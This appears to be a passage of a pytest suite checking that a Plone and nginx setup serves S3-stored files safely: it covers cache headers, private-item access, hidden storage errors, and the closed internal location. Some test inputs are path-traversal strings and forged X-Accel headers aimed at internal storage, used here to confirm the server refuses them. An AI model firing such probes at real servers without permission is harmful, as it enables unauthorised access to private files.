    def test_each_header_is_there_once(self, through):
        answer = through.get("public/pdf/@@download/file")
        names = [name.lower() for name in answer.headers.keys()]
        assert len(names) == len(set(names)), names
        assert answer.headers["Cache-Control"] == "public, max-age=150"

    def test_a_private_item_is_private(self, through, sites):
        assert through.get("private/pdf/@@download/file").status in (302, 401)
        headers = cookie(sites, "with", "reviewer")
        answer = through.request("GET", "private/pdf/@@download/file", headers=headers)
        assert (answer.status, answer.body) == (200, FILES["pdf"].data)
        assert answer.headers["Cache-Control"] == "private, max-age=150"

    def test_credentials_do_not_reach_the_store(self, sites, x_accel_mode, front):
        """It would refuse a request with both a signature and an Authorization header."""
        client = WebClient(front.port, "with", ("boss", sites.instance.password))
        assert client.get("private/pdf/@@download/file").body == FILES["pdf"].data

    @pytest.mark.parametrize(
        "path", ["s3blobs/", "s3blobs/bucket/key", "s3blobs/../s3blobs/x", "%733blobs/x", "//s3blobs/x"]
    )
    def test_the_location_is_closed_from_outside(self, front, x_accel_mode, path):
        answer = WebClient(front.port, "").get(path)
        assert answer.status == 404
        assert shows_no_url(answer)

    @pytest.mark.parametrize(
        "headers",
        [
            {"X-Accel-Redirect": "/s3blobs/delivery/x"},
            {"X-Accel-Mapping": "/=/s3blobs/", "X-Sendfile-Type": "X-Accel-Redirect"},
            {"X-Accel-Buffering": "no", "X-Accel-Limit-Rate": "1"},
        ],
    )
    def test_headers_of_the_client_change_nothing(self, through, sites, headers):
        answer = through.request("GET", "public/pdf/@@download/file", headers=headers)
        assert answer.body == FILES["pdf"].data
        assert through.request("GET", "private/pdf/@@download/file", headers=headers).status in (302, 401)

    def test_the_stores_errors_stay_behind_nginx(self, through, sites, s3_server, large):
        client = s3_client(s3_server)
        buckets = [
            bucket["Name"] for bucket in client.list_buckets()["Buckets"] if bucket["Name"].startswith("delivery-")
        ]
        for bucket in buckets:
            for entry in client.list_objects_v2(Bucket=bucket, Prefix="plone/blobs/")["Contents"]:
                if entry["Size"] == len(large.data):
                    client.delete_object(Bucket=bucket, Key=entry["Key"])
        answer = through.get(large.path)
        assert (answer.status, answer.body) == (404, b"There is no such file.\n")
        assert shows_no_url(answer)

    def test_a_head_is_answered_by_plone(self, through, large):
        answer = through.request("HEAD", large.path)
        assert (answer.status, answer.headers["Content-Length"]) == (200, str(len(large.data)))
        assert large.between.lines == []
